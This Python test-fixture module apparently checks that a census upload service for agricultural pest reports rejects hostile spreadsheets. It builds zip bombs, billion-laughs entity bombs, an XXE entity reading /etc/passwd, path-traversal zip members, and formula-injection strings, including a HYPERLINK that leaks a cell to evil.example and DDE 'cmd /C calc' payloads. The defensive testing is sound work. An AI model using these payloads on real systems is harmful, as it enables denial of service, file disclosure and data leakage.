"""Workbooks that are bombs, damaged, of the wrong type, or full of formulas, huge or sparse sheets.

Good rows follow the agriculture bureau's template (app/exports/layouts/agriculture.toml).
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from typing import Any

import openpyxl  # noqa: TID251 - tests build workbooks with openpyxl
from openpyxl.utils import get_column_letter  # noqa: TID251

from app.exports.layouts import load_template
from tests.photos.images import noise
from tests.reliability.corpus import Case

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BUREAU = "agriculture"


def _columns(sheet_key: str) -> list[tuple[str, str]]:
    """(field, header) of a template sheet, in order."""
    return [(c.field, c.header) for c in load_template(BUREAU).sheet(sheet_key).columns]


def census(rows: list[dict[str, Any]] | None = None, operations: list[dict[str, Any]] | None = None) -> bytes:
    """A census workbook in the agriculture template's layout with these rows (field → value)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    template = load_template(BUREAU)
    for key, data in (("observations", rows or []), ("control_operations", operations or [])):
        sheet = book.create_sheet(template.sheet(key).title)
        columns = _columns(key)
        sheet.append([header for _, header in columns])
        for row in data:
            sheet.append([row.get(name) for name, _ in columns])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@functools.cache
def _blank() -> bytes:
    """A census workbook with its headers and no rows (cached: many cases start from it)."""
    return census()


def good_row(when: str, **changes: Any) -> dict[str, Any]:
    """A valid 福寿螺 presence row (as a person would type it), observed `when` ("2026-06-01 08:00")."""
    row: dict[str, Any] = {
        "observed_at": when,
        "species_name_zh": "福寿螺",
        "detected": "是",
        "township_code": "500155001",
        "longitude": 107.8003,
        "latitude": 30.6712,
        "accuracy_m": 5,
        "habitat": "paddy",
        "density_per_m2": 4,
    }
    row.update(changes)
    return row


def replace_member(data: bytes, member: str, content: bytes) -> bytes:
    """The same zip with one member's bytes replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == member else source.read(info.filename))
    return out.getvalue()


def _sheet_member(data: bytes, title: str) -> str:
    """The zip member of the sheet called `title` (openpyxl numbers them in order)."""
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    index = book.sheetnames.index(title)
    book.close()
    return f"xl/worksheets/sheet{index + 1}.xml"


MAIN_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _cell(ref: str, value: str) -> bytes:
    text = value.replace("&", "&amp;").replace("<", "&lt;").encode()
    return b'<c r="' + ref.encode() + b'" t="inlineStr"><is><t>' + text + b"</t></is></c>"


def _header_row() -> bytes:
    cells = b"".join(
        _cell(f"{get_column_letter(i + 1)}1", header)
        for i, (_, header) in enumerate(_columns("observations"))
    )
    return b'<row r="1">' + cells + b"</row>"


def observation_sheet_xml(body: bytes, prolog: bytes = b"", dimension: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + prolog
        + b"<worksheet "
        + MAIN_NS
        + b">"
        + dimension
        + b"<sheetData>"
        + _header_row()
        + body
        + b"</sheetData></worksheet>"
    )


def with_observation_sheet(xml: bytes) -> bytes:
    base = _blank()
    return replace_member(base, _sheet_member(base, load_template(BUREAU).sheet("observations").title), xml)


LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY lol "lollollollollollollollollollol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)


def billion_laughs_in_sheet() -> bytes:
    return with_observation_sheet(
        observation_sheet_xml(b'<row r="2">' + _cell("A2", "x").replace(b"x", b"&lol9;") + b"</row>", LAUGHS)
    )


def billion_laughs_in_workbook() -> bytes:
    base = _blank()
    workbook = zipfile.ZipFile(io.BytesIO(base)).read("xl/workbook.xml")
    declaration_end = workbook.index(b"?>") + 2 if workbook.startswith(b"<?xml") else 0
    bombed = (
        workbook[:declaration_end] + LAUGHS.replace(b"worksheet", b"workbook") + workbook[declaration_end:]
    )
    return replace_member(
        base, "xl/workbook.xml", bombed.replace(b"</workbook>", b"<x>&lol9;</x></workbook>")
    )


def external_entity_in_sheet() -> bytes:
    prolog = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return with_observation_sheet(
        observation_sheet_xml(b'<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>', prolog)
    )


def _raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive from (name, deflated bytes, CRC-32, uncompressed size) entries, written as given:
    what the sizes and checksums say is up to the caller (they may lie)."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size in entries:
        offset = out.tell()
        encoded = name.encode()
        fixed = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0)
        out.write(b"PK\x03\x04" + fixed + encoded + data)
        central.append(
            b"PK\x01\x02"
            + struct.pack(
                "<HHHHHHIIIHHHHHII",
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(
        b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), start, 0)
    )
    return out.getvalue()


def _deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _members(data: bytes) -> list[tuple[str, bytes]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [(info.filename, archive.read(info.filename)) for info in archive.infolist()]


BLOCK = 16 * 1024 * 1024


@functools.cache
def _spaces_block() -> tuple[bytes, int]:
    """16 MB of spaces as a run of complete deflate blocks (ending on a full flush, so that copies can
    be laid end to end in one stream), and its CRC-32."""
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    spaces = b" " * BLOCK
    return compressor.compress(spaces) + compressor.flush(zlib.Z_FULL_FLUSH), zlib.crc32(spaces)


def zip_bomb_declared() -> bytes:
    """A census workbook carrying 70 more members of 16 MB each: ~5 MB that unpacks to 1.1 GiB."""
    block, crc = _spaces_block()
    entries = [
        (name, _deflated(content), zlib.crc32(content), len(content)) for name, content in _members(_blank())
    ]
    entries += [(f"xl/media/image{i}.png", block, crc, BLOCK) for i in range(70)]
    return _raw_zip(entries)


def _sheet_with_spaces(blocks: int) -> tuple[str, bytes, bytes]:
    """The observation sheet's member name, its XML up to the end of its rows, and a deflate stream of
    the whole sheet with `blocks` × 16 MB of spaces after the rows."""
    base = _blank()
    member = _sheet_member(base, load_template(BUREAU).sheet("observations").title)
    head, tail = zipfile.ZipFile(io.BytesIO(base)).read(member).split(b"</sheetData>")
    tail = b"</sheetData>" + tail
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    stream = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream += _spaces_block()[0] * blocks
    stream += compressor.compress(tail) + compressor.flush()
    return member, head, stream


def zip_bomb_lying(*, crc_matches_prefix: bool) -> bytes:
    """The sheet's headers say it is a few kB; its deflate stream inflates to 256 MB. With
    `crc_matches_prefix`, the checksum is that of the few kB declared (a reader that stops there sees
    a cut-off sheet); otherwise it is wrong."""
    member, head, stream = _sheet_with_spaces(16)
    declared = len(head) + 4096
    prefix = head + b" " * 4096
    crc = zlib.crc32(prefix) if crc_matches_prefix else 0xDEADBEEF
    entries = []
    for name, content in _members(_blank()):
        if name == member:
            entries.append((name, stream, crc, declared))
        else:
            entries.append((name, _deflated(content), zlib.crc32(content), len(content)))
    return _raw_zip(entries)


def truncated_workbook(when: str) -> bytes:
    data = census([good_row(when)])
    return data[: len(data) // 2]


def csv_renamed() -> bytes:
    headers = ",".join(header for _, header in _columns("observations"))
    return (headers + "\n2026-06-01,福寿螺\n").encode("utf-8")


def ole_xls() -> bytes:
    """The signature of an old .xls (OLE2 compound file), then nothing sensible."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + noise(4096, b"xls")


def zip_not_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("../../../../tmp/evil.txt", "escaped")
        z.writestr("readme.txt", "not a workbook")
    return out.getvalue()


def cut_off_sheet(when: str) -> bytes:
    """Thirty good rows, the sheet's XML cut off in the last of them (its zip entry itself is sound):
    the first rows are read and imported before the damage shows."""
    data = census([good_row(when, latitude=30.6712 + 0.0005 * i) for i in range(30)])
    member = _sheet_member(data, load_template(BUREAU).sheet("observations").title)
    xml = zipfile.ZipFile(io.BytesIO(data)).read(member)
    return replace_member(data, member, xml[: xml.rindex(b"<row ") + 40])


def path_traversal_members(when: str) -> bytes:
    """A real census workbook carrying extra members named outside the archive."""
    data = census([good_row(when)])
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(data))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
        target.writestr("../../../../tmp/ias-evil.txt", "escaped")
        target.writestr("/etc/ias-evil.txt", "escaped")
    return out.getvalue()


def missing_sheets() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "物种名称"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
)


def formula_injection(when: str) -> bytes:
    """Rows whose text cells look like formulas (strings, not formulas), and one real formula cell."""
    rows = [
        good_row(when, notes=text, place_name=text[:50], latitude=30.6712 + 0.001 * i)
        for i, text in enumerate(INJECTIONS)
    ]
    data = census(rows)
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book[load_template(BUREAU).sheet("observations").title]
    columns = [name for name, _ in _columns("observations")]
    # openpyxl stores any str starting with "=" as a formula: make the text cells strings again,
    # and leave one real formula (no cached value, as a hand-edited file would have it).
    notes = columns.index("notes") + 1
    place = columns.index("place_name") + 1
    for row in range(2, len(rows) + 2):
        for column in (notes, place):
            cell = sheet.cell(row=row, column=column)
            if cell.data_type == "f":
                cell.data_type = "s"
    formula_row = len(rows) + 2
    for name, value in good_row(when, latitude=30.6812).items():
        sheet.cell(row=formula_row, column=columns.index(name) + 1, value=value)
    sheet.cell(row=formula_row, column=notes, value="=1+1")  # a real formula: never evaluated
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


HUGE_ROWS, HUGE_COLUMNS = 2000, 40


def huge_sheet(rows: int = HUGE_ROWS, columns: int = HUGE_COLUMNS) -> bytes:
    """Many rows, each filled out to many columns past the template's, none a known species."""
    letters = [get_column_letter(i + 1) for i in range(columns)]
    parts: list[bytes] = []
    for r in range(2, rows + 2):
        cells = b"".join(
            b'<c r="%s%d"><v>%d</v></c>' % (letter.encode(), r, i) for i, letter in enumerate(letters)
        )
        parts.append(b'<row r="%d">' % r + cells + b"</row>")
    return with_observation_sheet(observation_sheet_xml(b"".join(parts)))


def far_corner() -> bytes:
    """A sheet claiming the whole grid (A1:XFD1048576), with one cell in its far corner."""
    body = b'<row r="1048576">' + _cell("XFD1048576", "福寿螺") + b"</row>"
    return with_observation_sheet(observation_sheet_xml(body, dimension=b'<dimension ref="A1:XFD1048576"/>'))


def workbook_cases(when: str) -> list[Case]:
    """`when`: the observation time typed in good rows ("2026-06-01 08:00")."""
    refused = (422,)
    too_large = (413,)  # refused before parsing, naming the unpacked-size limit it passes
    return [
        Case("zip bomb (declared sizes)", zip_bomb_declared, too_large, "bomb.xlsx", XLSX),
        Case(
            "zip bomb (sizes lie)",
            lambda: zip_bomb_lying(crc_matches_prefix=True),
            refused,
            "liar.xlsx",
            XLSX,
        ),
        Case(
            "zip bomb (sizes and crc lie)",
            lambda: zip_bomb_lying(crc_matches_prefix=False),
            refused,
            "liar2.xlsx",
            XLSX,
        ),
        Case("billion laughs in a sheet", billion_laughs_in_sheet, refused, "laughs.xlsx", XLSX),
        Case("billion laughs in workbook.xml", billion_laughs_in_workbook, refused, "laughs2.xlsx", XLSX),
        Case("external entity in a sheet", external_entity_in_sheet, refused, "xxe.xlsx", XLSX),
        Case("truncated workbook", lambda: truncated_workbook(when), refused, "cut.xlsx", XLSX),
        Case("sheet cut off after its first rows", lambda: cut_off_sheet(when), refused, "cut2.xlsx", XLSX),
        Case("csv named .xlsx", csv_renamed, refused, "census.xlsx", XLSX),
        Case("old .xls named .xlsx", ole_xls, refused, "census.xlsx", XLSX),
        Case("zip that is no workbook", zip_not_workbook, refused, "census.xlsx", XLSX),
        Case("workbook missing the sheets", missing_sheets, refused, "other.xlsx", XLSX),
        Case("empty file", lambda: b"", refused, "empty.xlsx", XLSX),
    ]
